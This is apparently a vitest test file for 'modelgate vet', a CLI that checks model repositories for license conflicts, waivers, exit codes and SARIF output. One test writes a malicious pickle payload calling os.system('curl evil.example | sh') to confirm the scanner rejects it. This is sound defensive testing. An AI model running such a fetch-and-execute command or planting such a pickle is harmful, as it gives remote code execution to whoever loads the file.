// biome-ignore-all lint/suspicious/noExplicitAny: walking parsed JSON reports in assertions
/**
 * `modelgate vet` end to end through the CLI, on the realistic repositories of test/writers/model-repos.ts:
 * verdicts under the default policy and under stricter ones, exit codes, the JSON contract, SARIF.
 */
import { readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { type FixtureFile, fixtureRepo, startHubServer } from "./helpers/hub-server.js";
import { runCli } from "./helpers/run-cli.js";
import { sarifValidator } from "./helpers/sarif-validator.js";
import { tempFiles } from "./helpers/temp-files.js";
import { expectVetContract } from "./helpers/vet-contract.js";
import {
  aiLicenseText,
  cardText,
  LLAMA31_BASE,
  spdxText,
  writeCardLicenseDisagreementRepo,
  writeLlamaFinetuneMislabelledMit,
  writeMissingLicenseRepo,
  writeNcAdapterRepo,
  writePermissiveRepo,
  writeRailApacheMergeRepo,
} from "./writers/model-repos.js";
import { pickle } from "./writers/pickle.js";

const temp = tempFiles("vet");

async function vetJson(
  path: string,
  extra: string[] = [],
): Promise<{ code: number; report: any; stderr: string }> {
  const r = await runCli(["vet", path, "--format", "json", "--no-hash", ...extra]);
  if (!r.stdout) throw new Error(`no report (exit ${r.code}): ${r.stderr}`);
  const report = JSON.parse(r.stdout);
  expectVetContract(report);
  return { code: r.code, report, stderr: r.stderr };
}

const reason = (report: any, rule: string) => report.reasons.find((r: any) => r.rule === rule);
const judged = (report: any) =>
  report.reasons.filter((r: any) => r.outcome !== "pass").map((r: any) => `${r.rule}:${r.outcome}`);

function policyFile(yaml: string): string {
  return temp.write("modelgate.yaml", yaml);
}

describe("vet: the fixture repositories under the default policy", () => {
  it("approves the permissive Apache-2.0 repository (exit 0)", async () => {
    const { code, report } = await vetJson(writePermissiveRepo(temp.dir()).path);
    expect(judged(report)).toEqual([]);
    expect(report.verdict).toBe("approved");
    expect(code).toBe(0);
    expect(report.license.key).toBe("apache-2.0");
    expect(report.card.present).toBe(true);
  });

  it("flags a Llama 3.1 fine-tune labelled MIT with a lineage conflict", async () => {
    const { code, report } = await vetJson(writeLlamaFinetuneMislabelledMit(temp.dir()).path);
    expect(["needs-review", "rejected"]).toContain(report.verdict);
    expect(code).toBe(1);
    const conflicts = reason(report, "license.conflicts");
    expect(["warn", "fail"]).toContain(conflicts.outcome);
    const pointer = conflicts.evidence.find((p: string) => p.startsWith("/license/conflicts/"));
    const index = Number(pointer.split("/")[3]);
    expect(report.license.conflicts[index].kind).toBe("lineage");
  });

  it("sends the NC adapter to review for its commercial-use prohibition, and rejects it when commercial use is required", async () => {
    const path = writeNcAdapterRepo(temp.dir()).path;
    const byDefault = await vetJson(path);
    expect(byDefault.report.verdict).toBe("needs-review");
    expect(byDefault.code).toBe(1);
    expect(reason(byDefault.report, "license.commercial-use")).toMatchObject({
      outcome: "warn",
      evidence: ["/license/obligations/commercialUse"],
    });
    expect(byDefault.report.license.obligations.commercialUse).toBe("prohibited");

    const strict = policyFile(
      "policy:\n  rules:\n    license.commercial-use: { require: allowed, action: reject }\n",
    );
    const { code, report } = await vetJson(path, ["--config", strict]);
    expect(report.verdict).toBe("rejected");
    expect(code).toBe(1);
    expect(reason(report, "license.commercial-use").outcome).toBe("fail");
  });

  it("sends the RAIL + Apache merge to review for its use restrictions", async () => {
    const { code, report } = await vetJson(writeRailApacheMergeRepo(temp.dir()).path);
    expect(report.verdict).toBe("needs-review");
    expect(code).toBe(1);
    expect(reason(report, "license.use-restrictions").outcome).toBe("warn");
    expect(report.license.obligations.useRestrictions).toBe(true);
  });

  it("sends a card/LICENSE disagreement to review with the conflict as evidence", async () => {
    const { code, report } = await vetJson(writeCardLicenseDisagreementRepo(temp.dir()).path);
    expect(report.verdict).toBe("needs-review");
    expect(code).toBe(1);
    const conflicts = reason(report, "license.conflicts");
    expect(conflicts.outcome).toBe("warn");
    expect(conflicts.evidence).toContain("/license/conflicts/0");
    expect(report.license.conflicts[0].kind).toBe("source-disagreement");
  });

  it("sends a repository without a license to review, and rejects it when the policy says so", async () => {
    const path = writeMissingLicenseRepo(temp.dir()).path;
    const byDefault = await vetJson(path);
    expect(byDefault.report.license.key).toBe("unknown");
    expect(byDefault.report.verdict).toBe("needs-review");
    expect(reason(byDefault.report, "license.unknown")).toMatchObject({
      outcome: "warn",
      evidence: ["/license/key", "/license/sources"],
    });
    const strict = policyFile("policy:\n  rules:\n    license.unknown: { action: reject }\n");
    const { code, report } = await vetJson(path, ["-c", strict]);
    expect(report.verdict).toBe("rejected");
    expect(code).toBe(1);
  });

  it("rejects an otherwise fine repository holding a malicious pickle, pointing at the finding", async () => {
    const path = writePermissiveRepo(temp.dir()).path;
    const payload = pickle()
      .proto(2)
      .reduceGlobal("os", "system", (w) => w.binunicode("curl evil.example | sh"))
      .stop()
      .bytes();
    writeFileSync(join(path, "training_args.bin"), payload);
    const { code, report } = await vetJson(path);
    expect(report.verdict).toBe("rejected");
    expect(code).toBe(1);
    const r = reason(report, "scan.max-severity");
    expect(r.outcome).toBe("fail");
    const finding = report.scan.findings[Number(r.evidence[0].split("/")[3])];
    expect(finding).toMatchObject({ severity: "critical", file: "training_args.bin" });
    expect(finding.evidence.call).toBe("os.system('curl evil.example | sh')");
  });
});

describe("vet: waivers, output, exit codes", () => {
  it("a waiver approves the NC adapter until it expires, then says it expired", async () => {
    const path = writeNcAdapterRepo(temp.dir()).path;
    const waiver = (expires: string) =>
      policyFile(
        [
          "policy:",
          "  waivers:",
          "    - rule: license.commercial-use",
          "      model: nc-lora-*",
          "      reason: internal research only, legal ticket LEG-7",
          "      approver: legal@example.com",
          `      expires: ${expires}`,
        ].join("\n"),
      );
    const valid = await vetJson(path, ["-c", waiver("2999-12-31")]);
    expect(reason(valid.report, "license.commercial-use")).toMatchObject({
      outcome: "waived",
      waiver: { approver: "legal@example.com", expires: "2999-12-31" },
    });
    const expired = await vetJson(path, ["-c", waiver("2020-01-01")]);
    expect(reason(expired.report, "license.commercial-use").outcome).toBe("warn");
    expect(reason(expired.report, "waiver.expired").message).toContain("expired on 2020-01-01");
  });

  it("prints the verdict first in text, every reason with evidence, and the bytes read", async () => {
    const path = writeNcAdapterRepo(temp.dir()).path;
    const r = await runCli(["vet", path, "--no-hash"]);
    expect(r.code).toBe(1);
    expect(r.stdout.split("\n")[0]).toMatch(/^Verdict: NEEDS-REVIEW {2}/);
    expect(r.stdout).toMatch(/REVIEW license\.commercial-use: commercial use is prohibited/);
    expect(r.stdout).toContain("evidence /license/obligations/commercialUse: prohibited");
    expect(r.stdout).toMatch(/read \S+ \S+ of \S+ \S+ \(\d/);
    expect(r.stdout).not.toContain("\x1b[");
  });

  it("writes valid SARIF 2.1.0 with policy results", async () => {
    const path = writeCardLicenseDisagreementRepo(temp.dir()).path;
    const r = await runCli(["vet", path, "--format", "sarif", "--no-hash"]);
    expect(r.code).toBe(1);
    const doc = JSON.parse(r.stdout);
    const validate = sarifValidator();
    expect(validate(doc), JSON.stringify(validate.errors, null, 2)).toBe(true);
    expect(doc.runs[0].results.map((x: any) => x.ruleId)).toContain("license.conflicts");
    expect(doc.runs[0].properties.verdict).toBe("needs-review");
  });

  it("writes the report to --output and says so on stderr", async () => {
    const path = writePermissiveRepo(temp.dir()).path;
    const out = join(temp.dir(), "vet.json");
    const r = await runCli(["vet", path, "--format", "json", "-o", out]);
    expect(r.code).toBe(0);
    expect(r.stdout).toBe("");
    expect(r.stderr).toContain("verdict: approved");
    const report = JSON.parse(readFileSync(out, "utf8"));
    expectVetContract(report);
    // Hashed by default: every file has its SHA-256.
    expect(report.scan.files.every((f: any) => /^[0-9a-f]{64}$/.test(f.sha256))).toBe(true);
  });

  it("exits 3 when the verdict is approved but nothing in the target is a model", async () => {
    const dir = temp.dir();
    writeFileSync(join(dir, "README.md"), cardText({ front: ["license: apache-2.0"], title: "Docs only" }));
    writeFileSync(join(dir, "LICENSE"), spdxText("Apache-2.0"));
    const { code, report, stderr } = await vetJson(dir);
    expect(report.verdict).toBe("approved");
    expect(code).toBe(3);
    expect(stderr).toContain("nothing in");
  });

  it("exits 2 on a missing target, an invalid policy and an unknown format", async () => {
    const missing = await runCli(["vet", join(temp.dir(), "nope")]);
    expect(missing.code).toBe(2);
    expect(missing.stderr).toContain("no such file or directory");
    const bad = policyFile("policy:\n  rules:\n    remote-code: { action: deny }\n");
    const invalid = await runCli(["vet", writePermissiveRepo(temp.dir()).path, "-c", bad]);
    expect(invalid.code).toBe(2);
    expect(invalid.stderr).toMatch(
      /modelgate.yaml:3: policy.rules.remote-code.action: must be one of reject, review, allow/,
    );
    const usage = await runCli(["vet", ".", "--format", "xml"]);
    expect(usage.code).toBe(2);
    expect(usage.stdout).toBe("");
  });
});

describe("vet hf: (a local stand-in for the Hub)", () => {
  /** A written fixture repository's root files, as the Hub would serve them. */
  const filesOf = (dir: string): Record<string, FixtureFile> =>
    Object.fromEntries(readdirSync(dir).map((name) => [name, new Uint8Array(readFileSync(join(dir, name)))]));

  it("follows base_model on the Hub and reports the bytes read", async () => {
    const finetune = filesOf(writeLlamaFinetuneMislabelledMit(temp.dir()).path);
    // On the Hub the base is found through the Hub itself, not a lineage file.
    delete finetune["modelgate.lineage.yaml"];
    const hub = await startHubServer({
      repos: [
        fixtureRepo("acme/helpful-8b", finetune),
        fixtureRepo(LLAMA31_BASE, {
          "README.md": "---\nlicense: llama3.1\n---\n# Llama 3.1 8B Instruct\n",
          LICENSE: aiLicenseText("llama3.1"),
        }),
      ],
    });
    const r = await runCli(["vet", "hf:acme/helpful-8b", "--hub-url", hub.url, "--no-hash"], {
      HF_TOKEN: "",
    }).finally(() => hub.close());
    expect(r.stderr).toBe("");
    expect(r.code).toBe(1);
    expect(r.stdout.split("\n")[0]).toBe("Verdict: NEEDS-REVIEW  hf:acme/helpful-8b");
    expect(r.stdout).toContain(`base ${LLAMA31_BASE}: finetune, license llama3.1, from hf:`);
    expect(r.stdout).toMatch(/REVIEW license\.conflicts: lineage conflict/);
    expect(r.stdout).toMatch(/read \S+ \S+ of \S+ \S+ \(\d+(\.\d+)?%\)/);
  });
});
